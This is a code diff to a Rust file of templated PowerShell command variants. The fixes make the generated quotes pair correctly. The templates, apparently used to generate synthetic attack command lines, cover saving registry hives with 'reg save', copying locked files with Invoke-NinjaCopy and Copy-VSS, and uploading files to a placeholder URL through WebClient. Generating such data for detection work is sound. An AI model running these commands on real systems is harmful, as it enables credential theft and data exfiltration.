@@ -12,7 +12,7 @@ const PROVIDER: &[&str] = &[
         r"ForEach-Object { Get-ItemProperty $_.PSPath }¦% { $_.Name }¦Select-Object -ExpandProperty ",
         r"Name¦Out-File {psout}¦Format-List»»",
     ),
-    r#"(«Get-ItemProperty¦gp» «"¦'»{drive}{key}«"¦'»).«F¦V¦'(default)'¦Version»"#,
+    r#"(«Get-ItemProperty¦gp» «"{drive}{key}"¦'{drive}{key}'»).«F¦V¦'(default)'¦Version»"#,
     r"Get-ItemPropertyValue -Path {drive}{key} -Name «F¦V¦Default»",
     concat!(
         r#"$key = "{drive}{key}"; Get-ChildItem $key« -Recurse» | «% { "#,
@@ -55,7 +55,7 @@ const CALLREG: &[&str] = &[
     ),
     concat!(
         r#"foreach ($h in «@('{n1}','{n2}','{n3}')¦'{n1}','{n2}'¦"{n1}","{n3}"») { «reg save HKLM\$h "#,
-        r#"$env:TEMP\$h¦& reg.exe save «"¦»HKLM\$h«"¦» «"¦»{psdir}\$h.{anyext}«"¦»¦cmd /c "reg save "#,
+        r#"$env:TEMP\$h¦& reg.exe save «"HKLM\$h"¦HKLM\$h» «"{psdir}\$h.{anyext}"¦{psdir}\$h.{anyext}»¦cmd /c "reg save "#,
         r#"hklm\$h {dir}\$h"» }"#,
     ),
     concat!(
@@ -132,11 +132,11 @@ const DOTNET: &[&str] = &[
 
 const READFILE: &[&str] = &[
     r#"Copy-Item «-Path ¦-LiteralPath ¦»«"{f}"¦'{f}'¦{f}» «-Destination »{psout}« -Force»"#,
-    r"«cp¦copy¦cpi¦copy-item» «'¦»{f}«'¦» {psout}",
+    r"«cp¦copy¦cpi¦copy-item» «'{f}'¦{f}» {psout}",
     r#"[System.IO.File]::«Copy»(«'{f}'¦"{f}"», «'{outfile}'¦"{psdir}\{outname}"»)"#,
     r"[IO.File]::ReadAllBytes('{f}')« | Set-Content {psout} -Encoding Byte¦.Length»",
     concat!(
-        r#"Get-Content «-Path »«'¦"»{f}«'¦"» «-Encoding Byte¦-AsByteStream -Raw¦-Raw» | «Set-Content "#,
+        r#"Get-Content «-Path »«'{f}'¦"{f}"» «-Encoding Byte¦-AsByteStream -Raw¦-Raw» | «Set-Content "#,
         r"{psout}¦Out-File {psout}»",
     ),
     concat!(
@@ -145,7 +145,7 @@ const READFILE: &[&str] = &[
         r"Net.WebClient).UploadString('{url}',$b)»",
     ),
     r"(New-Object «System.»Net.WebClient).UploadFile('{url}', «'POST', »'{f}')",
-    r"Invoke-NinjaCopy ⟦-Path «'¦»{f}«'¦»¦-LocalDestination {psout}¦«-ComputerName {host}»⟧",
+    r"Invoke-NinjaCopy ⟦-Path «'{f}'¦{f}»¦-LocalDestination {psout}¦«-ComputerName {host}»⟧",
     r#"Invoke-NinjaCopy -Path "{f}" -ComputerName {host} -LocalDestination "{psdir}\{outname}""#,
     r"Copy-VSS -DestinationDir {psdir} -Path '{f}'",
     r"Compress-Archive -Path '{f}' -DestinationPath {psdir}\{stem}.zip",
@@ -155,7 +155,7 @@ const READFILE: &[&str] = &[
         r"[IO.File]::Create('{outfile}'); $fs.CopyTo($out)",
     ),
     r"Get-ForensicFileRecord -Path '{f}' | Copy-ForensicFile -Destination {psout}",
-    r#"Start-BitsTransfer -Source «'¦"»{f}«'¦"» -Destination {psout}"#,
+    r#"Start-BitsTransfer -Source «'{f}'¦"{f}"» -Destination {psout}"#,
     r"Invoke-Command -ComputerName {host} { Copy-Item '{f}' '{outfile}' }",
     r"Copy-Item -FromSession $s '{f}' -Destination {psdir}",
     r"Move-Item '{f}' {psout}",
